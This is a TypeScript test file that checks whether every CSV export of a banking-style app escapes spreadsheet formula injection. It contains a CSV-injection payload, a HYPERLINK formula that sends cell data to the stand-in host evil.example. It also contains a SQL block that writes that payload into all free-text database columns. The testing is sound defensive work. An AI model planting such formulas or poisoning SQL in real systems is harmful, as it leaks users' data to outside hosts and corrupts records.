import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { contract } from './contract';
import { openTestBank, type SignedIn, type TestBank } from '../../../tests/support/test-bank';
import { until } from '../../../tests/support/until';

/** No text that a stranger wrote is computed by the spreadsheet that an export is opened with. */
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"ver nota")\n.';

let bank: TestBank;
let owner: SignedIn;
beforeAll(async () => {
  bank = await openTestBank();
  owner = await bank.signIn('titular@balcao.demo');
  await bank.store.execute(poison);
});
afterAll(() => bank.close());

/** Puts the text into every column of free text that takes it. */
const poison = `do $$ declare c record; begin
  for c in select table_name, column_name from information_schema.columns join information_schema.tables using (table_schema, table_name)
    where table_schema = 'public' and table_type = 'BASE TABLE' and data_type = 'text' and is_generated = 'NEVER'
    and column_name ~ '(name|owner|description|message|note|title|reason|label|memo|comment|payer|counterpart)$'
  loop
    begin
      execute format('update %I set %I = %L where %I is not null', c.table_name, c.column_name, ${quoted(HOSTILE)}, c.column_name);
    exception when others then null; end;
  end loop; end $$`;

function quoted(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}

/** Cells of all files in which the text was made harmless. */
let escaped = 0;

interface Schema {
  type?: string;
  enum?: unknown[];
  required?: string[];
  properties?: Record<string, Schema>;
  items?: Schema;
}

/** A body of everything: each required field at its widest. */
function widest(schema: Schema, days: Record<string, string>): Record<string, unknown> {
  return Object.fromEntries(
    (schema.required ?? []).map((name) => [name, days[name] ?? valueOf(schema.properties![name]!, days)]),
  );
}
function valueOf(schema: Schema, days: Record<string, string>): unknown {
  if (schema.enum) return schema.enum.includes('csv') ? 'csv' : schema.enum[0];
  if (schema.type === 'array') return schema.items!.enum ?? [];
  if (schema.type === 'boolean') return false;
  return schema.type === 'object' ? widest(schema, days) : undefined;
}

/** Calls that make a CSV: their body, or their path, names the format. */
const exports = Object.entries(contract).flatMap(([key, spec]) => {
  const body = spec.body as Schema | undefined;
  const params = spec.params as Schema | undefined;
  const makes = (schema: Schema | undefined) => schema?.properties?.['format']?.enum?.includes('csv') === true;
  if (key.startsWith('GET') || /schedules/.test(key) || (!makes(body) && !makes(params))) return [];
  const types = body?.properties?.['type']?.enum ?? [undefined];
  return types.map((type) => ({ key, body, params: makes(params) ? { format: 'csv' } : {}, type }));
});

it('every export that can be a CSV is found', () => {
  expect(exports.length).toBeGreaterThan(18);
});

it.each(exports)('$key $type: no cell of its CSV begins a formula', async ({ key, body, params, type }) => {
  const { today } = (await owner.call('GET /today')).json as { today: string };
  const from = new Date(new Date(today).getTime() - 80 * 86_400_000).toISOString().slice(0, 10);
  const filled = { ...widest(body ?? {}, { from, to: today }), ...(type === undefined ? {} : { type }) };
  const started = await owner.call(key, { params, body: filled });
  expect(started.status, JSON.stringify([filled, started.json])).toBe(200);
  const read = async () => (await owner.call('GET /tasks/{id}', { params: { id: started.json.task } })).json;
  await until(`${key} is done`, async () => ['done', 'failed'].includes((await read()).status));
  expect((await read()).status).toBe('done');
  const file = (await owner.call('GET /tasks/{id}/file', { params: { id: started.json.task } })).raw.toString('utf8');
  const { data } = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { delimiter: ';' });
  escaped += data.flat().filter((cell) => cell.startsWith(`'${HOSTILE.slice(0, 5)}`)).length;
  const live = data.flat().filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-[\d.]+(,\d\d)?$/.test(cell));
  expect(live).toEqual([]);
});

it('the texts of strangers were in these files', () => {
  expect(escaped).toBeGreaterThan(100);
});

it('CSV is made in one place', () => {
  const makers: string[] = [];
  const look = (folder: string) => {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) look(path);
      else if (
        /(?<!\.test)\.(ts|mjs|tsx)$/.test(path) &&
        /Papa\.unparse|\.join\(';'\)/.test(readFileSync(path, 'utf8'))
      )
        makers.push(path);
    }
  };
  for (const folder of ['bff/src', 'src', 'contract/src']) look(folder);
  expect(makers).toEqual(['bff/src/core/spreadsheet.ts']);
});
